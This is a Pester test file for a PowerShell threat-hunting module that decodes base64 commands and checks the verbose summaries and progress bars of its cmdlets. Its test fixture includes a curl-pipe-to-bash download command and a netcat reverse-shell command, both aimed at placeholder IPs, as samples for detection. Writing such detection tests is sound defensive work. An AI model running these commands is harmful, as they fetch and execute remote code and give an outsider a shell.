# -Verbose at the prompt: each cmdlet says what it did, with counts that match its output.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    function script:Get-VerboseText([scriptblock] $Command) {
        # The sample holds deliberately bad lines; their errors are not what these tests are about.
        $ErrorActionPreference = 'Continue'
        $records = & $Command 4>&1 2>$null 3>$null
        # The comma keeps a single message an array, so [-1] is the last message, not its last character.
        , @($records | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] } | ForEach-Object Message)
    }
    $script:Commands = 'curl -s http://203.0.113.7/a.sh | bash', 'ls -la /tmp', 'nc 198.51.100.9 4444 -e /bin/sh'
}

Describe 'Verbose summaries' {
    It 'Get-B64Command counts the lines read, skipped and decoded' {
        $verbose = Get-VerboseText { Get-B64Command -Sample -Verbose }
        $verbose[0] | Should -Match '^Reading .*auoms-syslog\.log \(format: AuomsSyslog\)\.$'
        $summary = $verbose[-1]
        $summary | Should -Match '^Read [\d,]+ lines \([\d,]+ bytes\): [\d,]+ command records, [\d,]+ without a payload candidate, [\d,]+ lines skipped, [\d,]+ malformed; [\d,]+ command lines carried [\d,]+ payloads \([\d,]+ binary\)\.$'
        $lines = @(Get-Content (Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/auoms-syslog.log')).Count
        $summary | Should -Match ('^Read ' + $lines.ToString('N0', [cultureinfo]::InvariantCulture).Replace(',', '\,') + ' lines')
    }
    It 'Add-B64Category says how many events it categorised and how many got a category' {
        $verbose = Get-VerboseText { $Commands | Add-B64Category -Verbose }
        $verbose[-1] | Should -Match '^Categorised 3 event\(s\), 3 with at least one category; by category: '
        $verbose[-1] | Should -Match 'Network connections/Downloading 2'
    }
    It 'Add-GtfoBinsTag says how many events carry a GTFOBins binary, by function' {
        $verbose = Get-VerboseText { $Commands | Add-GtfoBinsTag -Verbose }
        $verbose[-1] | Should -Match '^Tagged 3 event\(s\), 2 with at least one GTFOBins binary; by function: '
        $verbose[-1] | Should -Match 'reverse-shell 2'
    }
    It 'Find-B64Ioc counts the indicators per type' {
        $events = $Commands | Find-B64Ioc
        $expected = $events.Iocs | Group-Object Type | Sort-Object @{ e = 'Count'; Descending = $true }, Name
        $verbose = Get-VerboseText { $Commands | Find-B64Ioc -Verbose }
        $verbose[-1] | Should -Match "^Searched 3 event\(s\): $(@($events.Iocs).Count) new indicator\(s\) in 3 event\(s\); by type: "
        foreach ($group in $expected) { $verbose[-1] | Should -Match "$($group.Name) $($group.Count)(,|\.$)" }
        $verbose[-1] | Should -Match 'ipv4 2'
    }
    It 'Find-B64Ioc says so when nothing was found' {
        (Get-VerboseText { 'ls -la' | Find-B64Ioc -IocType ipv4 -Verbose })[-1] | Should -Be 'Searched 1 event(s): 0 new indicator(s) in 0 event(s).'
    }
    It 'Measure-B64Score counts the events, commands, hosts and alerts it scored' {
        $events = foreach ($host_ in 'web1', 'web2') {
            foreach ($command in $Commands) { [B64Hunt.Model.CommandEvent]@{ DecodedCommand = $command; Computer = $host_ } }
        }
        $alert = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'Reverse shell'; Severity = 'High' }
        # Untimed alerts count only under the notebook rule (the default model needs a time to place them).
        $verbose = Get-VerboseText { $events | Measure-B64Score -Model Notebook -Alert $alert -Verbose }
        $verbose[-1] | Should -Be 'Scored 3 unique command(s) from 6 event(s) on 2 host(s), 1 alert(s) considered; 0 with threat-intelligence points, 3 with alert points.'
    }
    It 'Get-B64RelatedAlert counts the rows it read and the alerts it kept' {
        $verbose = Get-VerboseText { Get-B64RelatedAlert -Sample -Computer web-03 -Verbose }
        $kept = @(Get-B64RelatedAlert -Sample -Computer web-03).Count
        $rows = @(Import-Csv (Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/alerts.csv')).Count
        $verbose[-1] | Should -Match "^file:.*alerts\.csv: $rows row\(s\) read, $kept related alert\(s\) for 1 host\(s\)\.$"
    }
    It 'the listing cmdlets say how much they listed of what is loaded' {
        $rules = @(Get-B64CategoryRule).Count
        (Get-VerboseText { Get-B64CategoryRule -Id 'net-*' -Verbose })[-1] | Should -Match "^Listed $(@(Get-B64CategoryRule -Id 'net-*').Count) of $rules rule\(s\) in force, in \d+ categories\.$"
        $functions = @(Get-GtfoBinsFunction).Count
        (Get-VerboseText { Get-GtfoBinsFunction -Name shell -Verbose })[-1] | Should -Match "^Listed 1 of $functions GTFOBins function\(s\); the index knows \d+ binaries\.$"
    }
    It 'Show-B64Timeline says how many commands it drew' {
        $verbose = Get-VerboseText { $Commands | Show-B64Timeline -Top 2 -NoColor -Verbose }
        $verbose[-1] | Should -Be 'Timeline of 2 of 3 ranked command(s) (-Top 2), with 0 alert(s).'
    }
}

Describe 'Progress' {
    BeforeAll {
        # Progress records cannot be redirected, so the command runs in its own PowerShell, whose Streams.Progress keeps them.
        function script:Invoke-WithProgress([scriptblock] $Script, [object[]] $Arguments, [string] $Activity) {
            $ps = [powershell]::Create()
            try {
                $null = $ps.AddScript($Script).AddArgument($env:B64HUNT_MODULE)
                foreach ($a in $Arguments) { $null = $ps.AddArgument($a) }
                $result = $ps.Invoke()
                $ps.HadErrors | Should -BeFalse
                [pscustomobject]@{ Result = $result[0]; Progress = @($ps.Streams.Progress | Where-Object Activity -like $Activity) }
            } finally { $ps.Dispose() }
        }
        $script:ScoreMany = {
            param($ModulePath, $Count)
            Import-Module $ModulePath
            $events = foreach ($i in 1..$Count) { [B64Hunt.Model.CommandEvent]@{ DecodedCommand = "echo $($i % 50)"; Computer = 'web1' } }
            @($events | Measure-B64Score).Count
        }
    }
    It 'Measure-B64Score shows a progress bar while it groups a large input, and closes it' {
        $run = Invoke-WithProgress $ScoreMany 3000 'Scoring base64 commands'
        $run.Result | Should -Be 50
        $run.Progress.Count | Should -BeGreaterOrEqual 3
        $run.Progress[0].StatusDescription | Should -Match '^Grouping: 1[,.]?024 event\(s\) read$'
        $run.Progress[-2].StatusDescription | Should -Match '^Ranking 3[,.]?000 event\(s\)$'
        $run.Progress[-1].RecordType | Should -Be 'Completed'
    }
    It 'Measure-B64Score shows no bar for a handful of events' {
        $run = Invoke-WithProgress $ScoreMany 100 'Scoring base64 commands'
        $run.Result | Should -Be 50
        $run.Progress | Should -BeNullOrEmpty
    }
    It 'Get-B64RelatedAlert shows the rows read from a large alert export, and closes the bar' {
        $sample = Import-Csv (Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/alerts.csv')
        $big = Join-Path $TestDrive 'SecurityAlert.big.csv'
        @(foreach ($i in 1..400) { $sample }) | Export-Csv $big
        $rows = 400 * @($sample).Count
        $run = Invoke-WithProgress {
            param($ModulePath, $Path)
            Import-Module $ModulePath
            @(Get-B64RelatedAlert -Path $Path).Count
        } $big 'Reading SecurityAlert rows from SecurityAlert.big.csv'
        $run.Result | Should -BeGreaterThan 0
        $run.Progress.Count | Should -BeGreaterOrEqual 2
        $run.Progress[0].StatusDescription | Should -Match '^1[,.]?024 row\(s\) read, \d+ related alert\(s\)$'
        $run.Progress[-1].RecordType | Should -Be 'Completed'
        $rows | Should -BeGreaterThan 1024
    }
}
